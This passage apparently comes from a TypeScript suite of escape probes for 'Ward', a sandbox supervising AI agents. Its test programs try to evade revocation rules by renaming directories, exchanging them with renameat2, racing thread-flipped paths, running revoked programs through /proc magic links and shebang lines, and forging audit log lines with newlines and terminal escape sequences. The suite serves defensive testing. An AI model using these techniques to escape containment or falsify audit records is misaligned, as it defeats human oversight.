      if (!recorded(run, /its mode cannot be changed/)) return error('refused, but no supervisor refusal was recorded');
      return held("no execute bit on it, so the kernel refused it as an interpreter; chmod +x through a hard link got EACCES from the supervisor, and by its own name EROFS/EACCES");
    },
  },
  {
    id: 'rule.file-entry-ancestor-rename',
    ...fileProbe,
    title: 'carry a visible-only directory and an append-only directory off by renaming the directory above them, then read the secret and truncate the log under the new name',
    asi: ['ASI02', 'ASI06'],
    nist: ['AC-3', 'AU-9'],
    setup: (ctx) => {
      mkdirSync(path.join(ctx.ws, 'cfg', 'vis'), { recursive: true });
      mkdirSync(path.join(ctx.ws, 'cfg', 'app'), { recursive: true });
      writeFileSync(path.join(ctx.ws, 'cfg', 'vis', 'token'), `key ${ctx.canary}\n`);
      writeFileSync(path.join(ctx.ws, 'cfg', 'app', 'log.txt'), 'FIRST LINE\n');
    },
    policy: { filesystem: { visible: ['${WORKSPACE}/cfg/vis'], append: ['${WORKSPACE}/cfg/app'] } },
    program: () =>
      py(`attempt('elsewhere', lambda: (os.mkdir('build'), os.rename('build', 'build2'), os.rmdir('build2')))
attempt('rename-above', lambda: os.rename('cfg', 'cfg2'))
base = 'cfg2' if os.path.isdir('cfg2') else 'cfg'
attempt('read', lambda: sys.stdout.write(open(base + '/vis/token').read()))
attempt('truncate', lambda: open(base + '/app/log.txt', 'w').write('REWRITTEN'))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('elsewhere') === undefined) return noResult(run, 'elsewhere');
      if (v.get('elsewhere') !== '0') return error(`renaming a directory elsewhere failed (errno ${v.get('elsewhere')}): the refusal is wider than the entries`);
      if (run.stdout.includes(ctx.canary)) return broken('the visible-only file\'s contents reached the output');
      const refused = refusedWith(run, ['rename-above', 'read', 'truncate'], E.EACCES, 'a renamed directory above the entries let the sandbox past them');
      if (refused) return refused;
      if (readFileSync(path.join(ctx.ws, 'cfg', 'app', 'log.txt'), 'utf8') !== 'FIRST LINE\n') return broken('the append-only log changed on the host');
      return held('cfg, above both entries, could not be renamed (EACCES); the token stayed unread and the log intact');
    },
  },
  {
    id: 'rule.write-revoke-exact',
    ...ruleProbe,
    title: 'after a write revocation on src/, change src/ by unlink, rename, mkdir, chmod, utimes, link; ordinary churn elsewhere must still work',
    ...writeRevoked,
    program: () =>
      py(`open('secrets/token').read()
attempt('elsewhere', lambda: (os.mkdir('build'), open('build/a', 'w').write('a'), os.rename('build/a', 'build/b'), os.unlink('build/b'), os.rmdir('build')))
attempt('unlink', lambda: os.unlink('src/util.c'))
attempt('rename-out', lambda: os.rename('src/main.c', 'moved.c'))
attempt('mkdir', lambda: os.mkdir('src/new'))
attempt('chmod', lambda: os.chmod('src/main.c', 0o777))
attempt('utimes', lambda: os.utime('src/main.c', (1, 1)))
attempt('link', lambda: os.link('src/main.c', 'second.c'))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('elsewhere') === undefined) return noResult(run, 'elsewhere');
      if (v.get('elsewhere') !== '0') return error(`file churn outside src/ failed (errno ${v.get('elsewhere')}): the revocation is wider than its pattern`);
      const refused = refusedWith(run, ['unlink', 'rename-out', 'mkdir', 'chmod', 'utimes', 'link'], E.EACCES, 'src/ was changed after the revocation');
      if (refused) return refused;
      if (readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8') !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host');
      if (!recorded(run, /write revoked by rules\[0\]/)) return error('refused, but no supervisor refusal was recorded');
      return held('outside src/ files were made, renamed and removed; inside it every change by path got EACCES, decided on the resolved path');
    },
  },
  {
    id: 'rule.write-revoke-ancestor',
    ...ruleProbe,
    title: 'after a write revocation on lib/src/, carry it off by renaming lib (a directory above the pattern), or by exchanging lib with a planted tree or an empty directory',
    asi: ['ASI01', 'ASI05'],
    nist: ['AC-3(8)', 'SI-7'],
    setup: async (ctx) => {
      await setup(ctx);
      mkdirSync(path.join(ctx.ws, 'lib', 'src'), { recursive: true });
      writeFileSync(path.join(ctx.ws, 'lib', 'src', 'main.c'), 'int main(void) { return 0; }\n');
    },
    teardown,
    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'write ${WORKSPACE}/lib/src/**' }]),
    program: () =>
      py(`libc = ctypes.CDLL(None, use_errno=True)
def exchange(a, b):
    if libc.syscall(316, -100, a.encode(), -100, b.encode(), 2) != 0:  # renameat2(RENAME_EXCHANGE)
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
os.makedirs('planted/src')
open('planted/src/main.c', 'w').write('EVIL')
open('secrets/token').read()
attempt('elsewhere', lambda: (os.mkdir('build'), os.rename('build', 'build2'), os.rmdir('build2')))
attempt('rename-above', lambda: os.rename('lib', 'lib2'))
attempt('exchange', lambda: exchange('planted', 'lib'))
os.mkdir('empty')
attempt('exchange-empty', lambda: exchange('lib', 'empty'))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('elsewhere') === undefined) return noResult(run, 'elsewhere');
      if (v.get('elsewhere') !== '0') return error(`renaming a directory outside the pattern failed (errno ${v.get('elsewhere')}): the revocation is wider than its pattern`);
      const refused = refusedWith(run, ['rename-above', 'exchange', 'exchange-empty'], E.EACCES, 'a directory above the revoked pattern was moved, and lib/src with it');
      if (refused) return refused;
      if (readFileSync(path.join(ctx.ws, 'lib', 'src', 'main.c'), 'utf8') !== 'int main(void) { return 0; }\n') return broken('lib/src/main.c changed on the host');
      if (!recorded(run, /moved or replaced as a whole/)) return error('refused, but no supervisor refusal was recorded');
      return held('a directory elsewhere was renamed; lib, above the revoked lib/src, could not be renamed or exchanged (EACCES)');
    },
  },
  {
    id: 'rule.write-revoke-flip',
    ...ruleProbe,
    title: 'before and after a write revocation on src/, create files while a second thread flips the name between build/f.c and src/f.c (writes are decided blind before it, on their path after it)',
    ...writeRevoked,
    program: () =>
      py(`import threading
# Python threads switch every 5 ms by default: often enough for the flip to land between calls too.
sys.setswitchinterval(0.0001)
name = ctypes.create_string_buffer(b'build/f.c', 16)
os.mkdir('build')
stop = False
def flip():
    while not stop:
        ctypes.memmove(name, b'src/f.c\\0\\0', 9)
        ctypes.memmove(name, b'build/f.c', 9)
def creates(n):
    made = refused = 0
    for _ in range(n):
        fd = libc.open(name, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        if fd < 0:
            # A torn flip (half of each name) names a directory that does not exist: ENOENT, not a refusal.
            if ctypes.get_errno() == errno.EACCES: refused += 1
        else:
            made += 1
            os.close(fd)
    return made, refused
t = threading.Thread(target=flip, daemon=True)
t.start()
# Before the trigger, until a flip has landed on src/f.c (a write there is allowed then).
for _ in range(30):
    creates(100)
    if os.path.exists('src/f.c'): break
say('src-before', int(os.path.exists('src/f.c')))
if os.path.exists('src/f.c'): os.unlink('src/f.c')
open('secrets/token').read()
made, refused = creates(1000)
stop = True
say('made', made)
say('refused', refused)
say('src-after', int(os.path.exists('src/f.c')))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      for (const k of ['src-before', 'made', 'refused', 'src-after']) if (v.get(k) === undefined) return noResult(run, k);
      if (v.get('src-after') !== '0' || existsSync(path.join(ctx.ws, 'src', 'f.c'))) return broken('src/f.c was created after the write revocation, through a flipped name');
      if (v.get('src-before') !== '1') return error('before the trigger no flip reached src/f.c: the race did not run both ways, so the probe shows nothing');
      if (v.get('made') === '0' || v.get('refused') === '0') return error(`after the trigger made=${v.get('made')} refused=${v.get('refused')}: the race did not run both ways`);
      // O_APPEND opens are checked as appends, which a write revocation covers.
      if (!recorded(run, /(write|append) revoked by rules\[0\]/)) return error('refused, but no supervisor refusal was recorded');
      return held(`before the trigger the flip created src/f.c (writes decided blind, as any path was allowed); after it ${v.get('made')} creates went to build/ and ${v.get('refused')} naming src/ got EACCES: none created it`);
    },
  },
  {
    id: 'rule.write-revoke-socket',
    ...ruleProbe,
    mechanism: 'landlock',
    title: 'after a write revocation on src/, bind a unix socket to a path in src/ (a directory entry made without an open)',
    ...writeRevoked,
    program: () =>
      py(`open('secrets/token').read()
attempt('bind', lambda: socket.socket(socket.AF_UNIX).bind('src/main.sock'))
# Elsewhere: a private $HOME or /tmp that does not hold the workspace (one that does lost the right too).
ws = os.getcwd() + '/'
away = [d for d in (os.environ.get('HOME', ''), '/tmp') if d.startswith('/') and not ws.startswith(d.rstrip('/') + '/')]
if away:
    say('away', away[0])
    attempt('bind-elsewhere', lambda: socket.socket(socket.AF_UNIX).bind(away[0].rstrip('/') + '/ok.sock'))
else:
    say('away', '-')`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('away') === undefined) return noResult(run, 'away');
      if (v.get('away') !== '-' && v.get('bind-elsewhere') !== '0') return error(`binding a unix socket in ${v.get('away')} failed (errno ${v.get('bind-elsewhere')}): the refusal is wider than the revoked tree`);
      const refused = refusedWith(run, ['bind'], E.EACCES, 'a unix socket node was made in src/ after the revocation');
      if (refused) return refused;
      if (existsSync(path.join(ctx.ws, 'src', 'main.sock'))) return broken('a unix socket node was made in src/');
      return held(`bind(2) to a path in src/ got EACCES from Landlock (MAKE_SOCK taken from the trees the write revocation reaches)${v.get('away') === '-' ? '' : `; in ${v.get('away')} it worked`}`);
    },
  },
  {
    id: 'rule.exec-magic-link',
    ...ruleProbe,
    title: 'run a revoked program through magic links Ward cannot look up itself (/proc/self/root, /proc/self/cwd, /dev/fd/N), and run a watched one that way unseen',
    asi: ['ASI05', 'ASI02'],
    nist: ['AC-3(8)', 'CM-7'],
    requires: () => (realProgram('id') === null ? 'no id program in the system directories' : null),
    setup: (ctx) => {
      for (const d of ['secrets', 'src']) mkdirSync(path.join(ctx.ws, d), { recursive: true });
      writeFileSync(path.join(ctx.ws, 'secrets', 'token'), `token ${ctx.canary}\n`);
      writeFileSync(path.join(ctx.ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
    },
    policy: () => ({
      rules: [
        { after: 'read ${WORKSPACE}/secrets/**', revoke: `exec ${realProgram('id')!}` },
        { after: `exec ${realProgram('id')!}`, revoke: 'write ${WORKSPACE}/src/**' },
      ],
    }),
    program: () => {
      const id = realProgram('id')!;
      return py(`${PY_RUN}ID = ${JSON.stringify(id)}
DIR, BASE = os.path.split(ID)
run('before', ['/proc/self/root' + ID, '-u'])
attempt('write', lambda: open('src/main.c', 'a').write('// after id'))
open('secrets/token').read()
run('root', ['/proc/self/root' + ID, '-u'])
run('cwd', ['/proc/self/cwd/' + BASE, '-u'], cwd=DIR)
d = os.open(DIR, os.O_RDONLY)
run('devfd', ['/dev/fd/%d/%s' % (d, BASE), '-u'], pass_fds=(d,))`);
    },
    check: (run) => {
      const v = kv(run.stdout);
      if (!v.has('before')) return noResult(run, 'before');
      if (v.get('before') !== '0') return error(`running id through /proc/self/root failed before any rule fired (errno ${v.get('before')})`);
      if (v.get('write') === '0') return broken('running id through /proc/self/root was no exec event of it: the rule waiting for it never fired, and src/ stayed writable');
      const refused = refusedWith(run, ['write', 'root', 'cwd', 'devfd'], E.EACCES, 'the revoked program ran through a magic link');
      if (refused) return refused;
      if (!recorded(run, /exec revoked by rules\[0\]/)) return error('refused, but no supervisor refusal was recorded');
      return held('an exec through /proc/self/root fired the rule waiting for it; after the read, the revoked program got EACCES through /proc/self/root, /proc/self/cwd and /dev/fd/N, each recorded');
    },
  },
  {
    id: 'rule.exec-shebang',
    ...ruleProbe,
    title: "run a revoked interpreter with no exec of it: an executable script whose #! line names it (directly, through another script, and through /proc/self/root)",
    asi: ['ASI05', 'ASI02'],
    nist: ['AC-3(8)', 'CM-7'],
    requires: () => (realProgram('sh') === null || realProgram('python3') === null ? 'no sh or python3 in the system directories' : null),
    setup: (ctx) => {
      mkdirSync(path.join(ctx.ws, 'secrets'), { recursive: true });
      writeFileSync(path.join(ctx.ws, 'secrets', 'token'), `token ${ctx.canary}\n`);
      const sh = systemBinary('sh')!;
      writeFileSync(path.join(ctx.ws, 'tool'), `#!${sh}\necho tool ran\n`, { mode: 0o755 });
      writeFileSync(path.join(ctx.ws, 'nested'), '#!./tool\n', { mode: 0o755 });
      writeFileSync(path.join(ctx.ws, 'magic'), `#!/proc/self/root${sh}\necho tool ran\n`, { mode: 0o755 });
      writeFileSync(path.join(ctx.ws, 'other.py'), `#!${systemBinary('python3')!}\nprint('python ran')\n`, { mode: 0o755 });
    },
    policy: () => ({ rules: [{ after: 'read ${WORKSPACE}/secrets/**', revoke: `exec ${realProgram('sh')!}` }] }),
    program: () =>
      py(`${PY_RUN}run('before', ['./tool'])
open('secrets/token').read()
run('script', ['./tool'])
run('nested', ['./nested'])
run('magic', ['./magic'])
run('other', ['./other.py'])`),
    check: (run) => {
      const v = kv(run.stdout);
      for (const k of ['before', 'other']) {
        if (!v.has(k)) return noResult(run, k);
        if (v.get(k) !== '0') return error(`the script ${k === 'before' ? 'failed before the rule fired' : 'with another interpreter failed after it'} (errno ${v.get(k)}): the refusal is not the rule's alone`);
      }
      const refused = refusedWith(run, ['script', 'nested', 'magic'], E.EACCES, 'the revoked interpreter ran, named by a #! line');
      if (refused) return refused;
      if (!recorded(run, /exec revoked by rules\[0\].*the interpreter of/)) return error('refused, but no supervisor refusal naming the script was recorded');
      return held('after the read, scripts whose #! line names the revoked shell (directly, through another script, through /proc/self/root) got EACCES, each recorded as the interpreter of its script; a python script still ran');
    },
  },
  {
    id: 'rule.write-event-by-link',
    ...ruleProbe,
    title: 'put content into a guarded tree without opening anything there (a hard link into guarded/, a directory made in inbox/), then read the secret and connect out: each write must fire its rule',
    asi: ['ASI01', 'ASI02'],
    nist: ['AC-4', 'AC-3(8)'],
    setup: async (ctx) => {
      await setup(ctx);
      for (const d of ['guarded', 'inbox']) mkdirSync(path.join(ctx.ws, d));
      writeFileSync(path.join(ctx.ws, 'payload'), 'PAYLOAD\n');
    },
    teardown,
    policy: overlay([
      { after: 'write ${WORKSPACE}/guarded/**', revoke: 'read ${WORKSPACE}/secrets/**' },
      { after: 'write ${WORKSPACE}/inbox/**', revoke: 'network' },
    ]),
    program: (ctx) =>
      py(`${OUT(ctx)}
attempt('read-before', lambda: open('secrets/token').read())
out('before')
attempt('link', lambda: os.link('payload', 'guarded/linked'))
attempt('read-after-link', lambda: open('secrets/token').read())
attempt('mkdir', lambda: os.mkdir('inbox/d'))
out('after-mkdir')`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      for (const k of ['read-before', 'link', 'mkdir']) {
        if (v.get(k) === undefined) return noResult(run, k);
        if (v.get(k) !== '0') return error(`${k} failed (errno ${v.get(k)}): the rules only watch, so it should have worked`);
      }
      const refused = workedBefore(run, 'before') ?? refusedWith(run, ['read-after-link', 'after-mkdir'], E.EACCES, 'a write into the guarded tree that was not an open fired no rule') ?? nothingAfter(ctx, 1);
      if (refused) return refused;
      const triggers = run.revocations.map((r) => r.trigger);
      if (!triggers.includes(`write ${path.join(ctx.ws, 'guarded', 'linked')}`) || !triggers.includes(`write ${path.join(ctx.ws, 'inbox', 'd')}`)) return error(`refused, but the rules fired on ${JSON.stringify(triggers)}`);
      return held('the hard link into guarded/ fired its rule (the secret read after it got EACCES), and mkdir in inbox/ fired its own (the connect after it got EACCES)');
    },
  },
  {
    id: 'rule.forged-log-line',
    ...ruleProbe,
    mechanism: 'sandbox',
    title: 'forge a line of `ward audit show` and move the terminal\'s cursor: a rule fires on a file named with a newline, a fake exit record and ESC sequences',
    asi: ['ASI10'],
    nist: ['AU-9', 'AU-10'],
    setup: (ctx) => {
      for (const d of ['secrets', 'out']) mkdirSync(path.join(ctx.ws, d), { recursive: true });
    },
    policy: { rules: [{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'write ${WORKSPACE}/out/**' }] },
    program: {
      sh: 'exec 2>/dev/null; f="$(printf "secrets/x\\n2026-11-22 19:59:59.000  deadbeef  exit 0  5 ms\\033[2K\\033[1A")"; echo s > "$f"; cat "$f"; echo z > "out/$(printf "q\\nFAKE LINE\\033[31mRED\\342\\200\\256")"; true',
    },
    check: (run) => {
      if (run.revocations.length === 0) return noResult(run, 'the rule firing on the forged name');
      const denial = run.denials.find((d) => d.layer === 'supervisor');
      if (!denial) return error('the write under out/ was not refused by the supervisor: nothing to show');
      const records = [...run.revocations, { type: 'denial', ...denial }].map((r, i) => ({ line: i + 1, record: { ts: '2026-01-01T00:00:00.000Z', run_id: 'probe000', ...r } as unknown as AuditRecord }));
      const shown = renderTimeline(records).split('\n');
      const raw = shown.find((l) => /[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(l));
      if (raw !== undefined) return broken(`a control character the sandbox chose reaches the terminal: ${JSON.stringify(raw)}`);
      const forged = shown.find((l) => /^(2026-11-22 19:59:59|FAKE LINE)/.test(l));
      if (forged !== undefined) return broken(`a line the sandbox wrote stands as its own line of the timeline: ${JSON.stringify(forged)}`);
      return held('the trigger and the refusal each stay on their one line of `ward audit show`, the newline, ESC and U+202E shown escaped');
    },
  },
];
